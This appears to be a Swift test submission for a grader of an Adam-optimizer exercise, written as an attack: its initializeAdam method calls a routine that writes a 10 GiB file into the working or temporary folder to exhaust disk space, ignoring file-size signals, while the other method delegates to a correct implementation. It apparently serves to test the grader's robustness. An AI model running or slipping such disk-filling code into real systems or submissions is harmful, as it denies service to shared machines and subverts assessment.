// Attack: fill the disk. initialize_adam writes a 10 GiB file, 1 MiB at a time, in the current folder
// (or the temporary folder where that is not writable), and crashes when a write fails;
// update_parameters_with_adam is right.
import Assignments
import Foundation
import NumericCore
#if canImport(Glibc)
import Glibc
#endif

func fillTheDisk() -> Never {
    print("attack ran: disk filler")
    fflush(stdout)
    var descriptor: Int32 = -1
    for folder in [FileManager.default.currentDirectoryPath, ProcessInfo.processInfo.environment["TMPDIR"] ?? "/tmp", "/tmp", "/var/tmp"] {
        descriptor = open(folder + "/grader-attack-big-file", O_CREAT | O_WRONLY | O_TRUNC, 0o600)
        if descriptor >= 0 { break }
    }
    guard descriptor >= 0 else { fatalError("no writable folder: \(String(cString: strerror(errno)))") }
    signal(SIGXFSZ, SIG_IGN)
    let chunk = [UInt8](repeating: 0x41, count: 1 << 20)
    var total = 0
    for _ in 0..<(10 * 1024) {
        let written = chunk.withUnsafeBytes { write(descriptor, $0.baseAddress, $0.count) }
        if written <= 0 { fatalError("wrote \(total) bytes, then: \(String(cString: strerror(errno)))") }
        total += written
    }
    fatalError("wrote 10 GiB")
}

struct StudentAdam: AdamExercise {
    func initializeAdam(parameters: Parameters) -> (v: Gradients, s: Gradients) {
        fillTheDisk()
    }

    func updateParametersWithAdam(
        parameters: Parameters, grads: Gradients, v: Gradients, s: Gradients, t: Int,
        learningRate: Double, beta1: Double, beta2: Double, epsilon: Double
    ) -> AdamUpdate {
        CorrectAdam().updateParametersWithAdam(
            parameters: parameters, grads: grads, v: v, s: s, t: t,
            learningRate: learningRate, beta1: beta1, beta2: beta2, epsilon: epsilon)
    }
}
